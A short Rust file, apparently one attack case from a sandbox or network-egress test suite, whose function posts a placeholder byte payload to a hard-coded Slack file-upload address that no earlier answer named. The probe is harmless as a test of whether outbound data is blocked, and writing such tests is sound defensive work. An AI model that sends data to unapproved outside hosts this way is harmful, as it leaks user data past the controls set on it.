//! Sends bytes to an address of Slack's files that no answer named.

use crate::wasi::Ask;
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::at("files.slack.com", "/upload/v1/CwABAAAA")
        .header("content-type", "application/octet-stream")
        .post(b"bytes")?;
    Ok(got(format!("status {}", answer.status())))
}
